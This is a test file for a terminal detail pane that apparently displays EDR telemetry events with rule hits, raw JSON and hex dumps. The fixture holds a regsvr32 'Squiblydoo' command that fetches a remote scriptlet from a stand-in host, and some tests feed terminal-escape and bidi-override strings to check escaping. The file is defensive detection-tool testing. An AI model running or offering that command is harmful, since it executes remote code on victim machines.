import React from 'react';
import {render} from 'ink-testing-library';
import {describe, expect, it} from 'vitest';
import {detailLines, detailView} from '../../source/components/detail-lines.js';
import type {Line} from '../../source/components/line.js';
import {DetailPane} from '../../source/components/detail-pane.js';
import {defaultTheme} from '../../source/theme/theme.js';
import {makeEvent} from '../helpers/events.js';

const cmd = 'regsvr32.exe /s /u /i:http://evil.example/x.sct scrobj.dll';
const ev = makeEvent({
	seq: 42,
	host: 'WS-FIN-04',
	summary: cmd,
	kafka: {topic: 'telemetry', partition: 2, offset: '1234', timestamp: 1_700_000_000_500, timestampType: 'CreateTime'},
	time: 1_700_000_000_000,
	receivedAt: 1_700_000_001_000,
	raw: {'event.type': 'Process Creation', 'tgt.process.cmdline': cmd, 'endpoint.name': 'WS-FIN-04', pid: 4242},
	hits: [
		{
			id: 'rule-1',
			title: 'Regsvr32 Remote Scriptlet',
			level: 'high',
			tags: ['attack.t1218.010'],
			description: 'Squiblydoo',
			fields: [{field: 'CommandLine', value: cmd, spans: [[cmd.indexOf('http'), cmd.indexOf('.sct') + 4]]}],
		},
	],
});

describe('DetailPane', () => {
	it('shows the hits, the raw JSON and the normalized fields with Kafka coordinates and latency', () => {
		const lines = detailLines(ev, 100, defaultTheme);
		const app = render(<DetailPane lines={lines} scroll={0} height={40} width={100} edge="none" />);
		const frame = app.lastFrame()!;
		expect(frame).toContain('rule hits (1)');
		expect(frame).toContain('HIGH Regsvr32 Remote Scriptlet');
		expect(frame).toContain('tags: attack.t1218.010');
		expect(frame).toContain('"tgt.process.cmdline": "regsvr32.exe');
		expect(frame).toContain('"pid": 4242');
		expect(frame).toContain('kafka topic');
		expect(frame).toMatch(/kafka offset +1234/);
		expect(frame).toMatch(/receive - event +1s/);
	});

	it('marks the value the rule matched inside the raw JSON', () => {
		const lines = detailLines(ev, 100, defaultTheme);
		const marked = lines
			.flat()
			.filter(s => s.style === defaultTheme.json.match)
			.map(s => s.text);
		expect(marked).toContain('http://evil.example/x.sct');
	});

	it('scrolls, wraps long lines inside the pane, and keeps every row within the width', () => {
		const long = makeEvent({raw: {cmd: 'x'.repeat(300)}});
		const lines = detailLines(long, 40, defaultTheme);
		const app = render(<DetailPane lines={lines} scroll={3} height={6} width={40} edge="top" />);
		const rows = app.lastFrame()!.split('\n');
		expect(rows).toHaveLength(6);
		expect(rows[0]).toMatch(/^── detail/);
		for (const r of rows) expect(r.length).toBeLessThanOrEqual(40);
		expect(lines.filter(l => l.some(s => s.text.includes('xxxxxxxx'))).length).toBeGreaterThan(5);
	});

	it('escapes hostile raw values', () => {
		const evil = makeEvent({raw: {cmd: 'a\u001b]0;owned\u0007\u202e'}});
		const text = detailLines(evil, 80, defaultTheme)
			.flat()
			.map(s => s.text)
			.join('');
		expect(text).not.toMatch(/[\u001b\u0007\u202e]/);
		expect(text).toContain('\\u202e');
	});

	it('opens on the raw JSON: a one-line hits summary on top, the hits in full further down', () => {
		const text = (l: Line | undefined) => (l ?? []).map(s => s.text).join('');
		const view = detailView(ev, 80, defaultTheme);
		const lines = view.lines.map(text);
		const raw = lines.indexOf('── raw event ');
		expect(raw).toBeGreaterThan(0);
		expect(raw).toBeLessThanOrEqual(3);
		expect(view.sections.raw).toBe(raw);
		expect(lines[raw + 1]).toBe('{');
		const summary = lines.slice(0, raw).find(l => l.includes('Regsvr32 Remote Scriptlet'))!;
		expect(summary).toMatch(/HIGH Regsvr32 Remote Scriptlet/);
		expect(summary).toContain('h: hits');
		expect(view.sections.hits).toBeGreaterThan(raw);
		expect(lines[view.sections.hits!]).toBe('── rule hits (1) ');
		expect(lines.slice(view.sections.hits!).join('\n')).toContain('tags: attack.t1218.010');
		expect(view.sections.fields).toBeGreaterThan(view.sections.hits!);

		// A long summary takes two rows at most, so at 40 columns the JSON is still in sight.
		const narrow = detailView({...ev, summary: 'powershell.exe -> ' + cmd.repeat(4)}, 40, defaultTheme);
		expect(narrow.sections.raw).toBeLessThanOrEqual(5);
		expect(narrow.lines[narrow.sections.raw! - 2]!.map(s => s.text).join('')).toMatch(/…$/);
		const plain = detailView(makeEvent({summary: 'quiet', raw: {a: 1}}), 80, defaultTheme);
		expect(plain.sections.hits).toBeUndefined();
		expect(plain.lines.map(text).indexOf('── raw event ')).toBeLessThanOrEqual(2);
	});

	it('an undecodable row shows its bytes, as text and in hex, to the end of what was kept, never "null"', () => {
		const text = (l: Line) => l.map(s => s.text).join('');
		const kept = Buffer.from(`{oops ${'x'.repeat(200)} \u001b[2J END-OF-TEXT`);
		const bad = makeEvent({
			category: 'undecodable',
			family: 'undecodable',
			format: 'undecodable',
			raw: null,
			summary: 'invalid JSON',
			undecodable: {reason: 'invalid JSON', size: kept.length + 1000, preview: '{oops', payload: kept},
		});
		const view = detailView(bad, 80, defaultTheme);
		const lines = view.lines.map(text);
		expect(lines.join('\n')).not.toMatch(/raw event|^null$/m);
		expect(lines[view.sections.raw!]).toMatch(/^── payload, 1,2\d\d bytes, the first \d+ kept/);
		expect(lines.join('')).toContain('\\x1b[2J END-OF-TEXT');
		expect(lines).toContain('0000  7b 6f 6f 70 73 20 78 78 78 78 78 78 78 78 78 78  {oops xxxxxxxxxx');
		expect(lines.some(l => /^00d0 {2}.* END-OF-TEXT$/.test(l) || l.endsWith('TEXT'))).toBe(true);
		expect(lines).toContain('… 1,000 more bytes (not kept)');
		for (const l of view.lines) expect(text(l).length).toBeLessThanOrEqual(80);
		const rows = detailView(bad, 40, defaultTheme)
			.lines.map(text)
			.filter(l => /^[0-9a-f]{4} {2}/.test(l));
		expect(rows[0]).toBe('0000  7b 6f 6f 70 73 20 78 78  {oops xx');
	});

	it('a label as long as the label column (a Kafka header) keeps a space before its value', () => {
		const withHeader = makeEvent({
			kafkaMeta: {headers: [{name: 'source-system', value: new Uint8Array(Buffer.from('edr-export'))}]},
		});
		const lines = detailLines(withHeader, 100, defaultTheme).map(l => l.map(t => t.text).join(''));
		expect(lines.find(l => l.includes('kafka header source-system'))).toMatch(/source-system edr-export/);
	});
});
